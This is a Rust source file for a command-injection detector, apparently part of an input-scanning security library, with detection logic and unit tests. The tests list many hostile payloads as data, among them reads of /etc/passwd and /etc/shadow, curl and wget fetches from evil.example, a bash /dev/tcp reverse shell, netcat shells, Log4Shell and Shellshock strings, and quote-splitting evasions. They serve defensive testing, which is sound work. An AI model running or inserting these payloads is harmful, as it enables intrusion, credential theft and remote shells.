//! Injection of commands (CWE-78; OWASP WSTG-INPV-12): a command of a shell behind something that
//! ends the one before it.
//!
//! A word is never enough. A rule wants a separator or a substitution, then a known command, then
//! an argument of a command's kind: an option, a path, a URL, a variable. What shells ignore is
//! taken out for a second look: `c''at`, `c\at`, `w"h"oami`, `c$@at`.

mod bare;
mod honest;
mod quoted;
pub(super) mod rules;
mod tables;

use self::rules::{BARE, RULES, SPLIT};
use super::{BuildError, CERTAIN, Detector, Family, Finding, Hits, Marks, RuleSet, Value, lexicon::Lexicon};

/// Separators, substitutions and variables; and what arguments have, for commands at the beginning
/// of a value.
const MARKS: Marks = Marks::SEMICOLON
    .and(Marks::PIPE)
    .and(Marks::QUOTE)
    .and(Marks::DOLLAR)
    .and(Marks::BREAK)
    .and(Marks::BACKSLASH)
    .and(Marks::SLASH)
    .and(Marks::CURLY)
    .and(Marks::ROUND)
    .and(Marks::PERCENT)
    .and(Marks::EQUALS)
    .and(Marks::BLANK);

/// What shells take out of words.
pub(super) const IGNORED: Marks = Marks::QUOTE.and(Marks::BACKSLASH).and(Marks::DOLLAR).and(Marks::OTHER);

/// What ends the command before or opens braces: without one of these, rules for words that are
/// split find nothing but a command at the beginning.
const ENDS: Marks = Marks::SEMICOLON
    .and(Marks::PIPE)
    .and(Marks::BREAK)
    .and(Marks::of_byte(b'<'))
    .and(Marks::of_byte(b'^'))
    .and(Marks::DOLLAR)
    .and(Marks::CURLY)
    .and(Marks::BACKSLASH);

/// Finds injected commands.
pub(super) struct Command {
    rules: RuleSet,
    /// Those of them that say something only where an address is wanted.
    of_addresses: Hits,
    bare: RuleSet,
    split: RuleSet,
}

impl Command {
    pub(super) fn new(lexicon: &mut Lexicon) -> Result<Self, BuildError> {
        let rules = RuleSet::with(RULES, lexicon)?;
        Ok(Self {
            of_addresses: rules.named(&["address-and-more"]),
            rules,
            bare: RuleSet::new(BARE)?,
            split: RuleSet::new(SPLIT)?,
        })
    }
}

/// Whether a shell may take something out of its words.
pub(super) const fn may_be_split(value: &Value<'_>) -> bool {
    value.marks.any(IGNORED)
}

impl Detector for Command {
    fn family(&self) -> Family {
        Family::Command
    }

    fn wants(&self, marks: Marks) -> bool {
        marks.any(MARKS)
    }

    fn look(&self, value: &Value<'_>) -> Option<Finding> {
        if !value.is_entered() {
            return None;
        }
        let finding = self.of_value(value)?;
        if !is_certain(Some(&finding)) {
            return Some(finding);
        }
        match quoted::without_files(value) {
            Some(rest) => self.of_value(&value.with_text(&rest)).map(|found| value.widened(found)),
            None => Some(finding),
        }
    }
}

impl Command {
    fn of_value(&self, value: &Value<'_>) -> Option<Finding> {
        let finding = self.judge(value);
        if !is_certain(finding.as_ref()) {
            let padded = value.without_padding().and_then(|rest| self.judge(&rest));
            return padded.map(|found| value.widened(found)).or(finding);
        }
        // what a message quotes is not run; what stands around it is looked into again
        match quoted::without_quoted_code(value) {
            Some(rest) => self.judge(&value.with_text(&rest)).map(|found| value.widened(found)),
            None => finding,
        }
    }

    fn judge(&self, value: &Value<'_>) -> Option<Finding> {
        let value = &value.unless(&self.of_addresses, honest::is_for_address);
        let finding = self.rules.judge_by(value, |rule| !honest::is_excused(rule, value));
        let may_split = may_be_split(value) && value.marks.any(bare::TAKEN_OUT);
        if is_certain(finding.as_ref()) || value.is_document || !may_split || !bare::is_split(value.text) {
            return finding;
        }
        let begins_split = bare::begins_split(value.text);
        if !(begins_split || value.marks.any(ENDS) || bare::may_begin_with_command(value.text)) {
            return finding;
        }
        let bare = bare::command(value.text);
        let found = bare.and_then(|text| {
            let of_first = begins_split.then(|| self.of_first_word(value, &text)).flatten();
            of_first.or_else(|| self.split(value, &text))
        });
        found.or(finding)
    }

    /// The command whose name was split, at the beginning of a text of which that was taken out.
    fn of_first_word(&self, value: &Value<'_>, text: &str) -> Option<Finding> {
        let found = self.split.judge(&value.with_text(text))?;
        let name = text.get(found.at.clone())?.split_ascii_whitespace().next()?;
        (!value.text.contains(name)).then(|| value.widened(found))
    }

    /// What is found in a text only after what splits its words was taken out. What stands there as
    /// it is was judged before, by rules that want more.
    fn split(&self, value: &Value<'_>, text: &str) -> Option<Finding> {
        // each is looked for in what follows the one before
        const MOST: usize = 8;
        let mut rest = text;
        for _ in 0..MOST {
            let found = self.bare.judge(&value.with_text(rest))?;
            let matched = rest.get(found.at.clone()).unwrap_or_default();
            if !value.text.contains(matched.trim()) {
                return Some(value.widened(found));
            }
            rest = rest.get(found.at.end.max(1)..).unwrap_or_default();
        }
        None
    }
}

fn is_certain(finding: Option<&Finding>) -> bool {
    finding.is_some_and(|finding| finding.score >= CERTAIN)
}

#[cfg(test)]
mod tests {
    use super::super::tests::{assert_finds, assert_passes};

    #[test]
    fn commands_are_found() {
        assert_finds(
            "command",
            &[
                "; cat /etc/passwd",
                "1.1.1.1;\"i\"d",
                "x|\"i\"d",
                "1.1.1.1;<<<id sh",
                "1.1.1.1;sh<<EOF\nid",
                "1.1.1.1;</etc/passwd cat",
                "1.1.1.1;>x id",
                "1.1.1.1;~+/../bin/id",
                "1.1.1.1;/bin/\"id\"",
                "127.0.0.1 && whoami",
                "127.0.0.1|id",
                "`id`",
                "$(curl http://evil.example/x.sh)",
                "x;wget${IFS}http://evil.example/x",
                ";c'a't /etc/passwd",
                "c\\at /etc/shadow;id",
                ";c$@at+/et$@c/passwd",
                "& ping -n 10 127.0.0.1 &",
                "| dir c:\\",
                "() { :;}; /bin/bash -c \"id\"",
                "${jndi:ldap://evil.example/a}",
                "${${lower:j}ndi:rmi://x/y}",
                "; cat /e??/pa??wd",
                "\nid\n",
                "a;/usr/bin/id",
                "& for /f \"delims=\" %i in ('whoami') do echo %i",
                "if exist c:\\boot.ini echo x",
                "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
                "; net user hacker Password1 /add",
                "{cat,/etc/passwd}",
                "cat /etc/passwd",
                "system('ls -la')",
            ],
        );
    }

    #[test]
    fn names_that_are_split_are_put_together() {
        assert_finds(
            "command",
            &[
                "py''thon -c \"print('attack')\"",
                "p\"\"erl -e 'print 1'",
                "ba''sh -i",
                r"w\get http://evil.example/x",
                "n''c -e sh 10.0.0.1 4444",
                "/bin/c''at ../../secret",
            ],
        );
        assert_passes(&[
            "python -c is an option that 'one' passes code to",
            "I'd - like you - rather stay",
            "we'll /maybe/ come",
            "import {greet} from \"./greeting.js\";",
            "b=\"URL(\\\"\";",
            "l'art -du siècle",
            "Who's on -a- list?",
        ]);
    }

    #[test]
    fn look_alikes_pass() {
        assert_passes(&[
            "cats; dogs; and find more",
            "R&D; sales & marketing",
            "top 10 list",
            "kill -9 is my last resort",
            "rm -rf is dangerous",
            "nc 8000 controller",
            "A&W",
            "AT&T; who else?",
            "Run `npm install` and then `npm test`",
            "if you like it | share it",
            "Terms & Conditions; last update",
            "<h2>Heading</h2><p>Text & more</p>",
            "if (a == b) { return; }",
            "src/**/*.ts",
            "/maps/api/geocode/json?address=Reader",
            "price: $100; sale: $80",
            "more; less; head; tail",
            "Tom & Jerry find gold",
            "who's there? & why",
            "sort by date; newest first",
            "dog & cat",
            "Save the date & time 5 pm",
            "more salt & pepper",
            "sleep well & good night",
            "Shop & find amazon.com deals",
            "If defined by law, the limit applies",
            "he left & who 'cares'",
            "Please type C:\\Users here",
            "name; id card",
            "a;\"b\"",
            "size;'S';'M'",
            "he said \"I\"; \"we\" agreed",
            "x; > y",
            "a;<b>c</b>",
            "heredoc uses sh <<EOF in scripts",
        ]);
    }
}
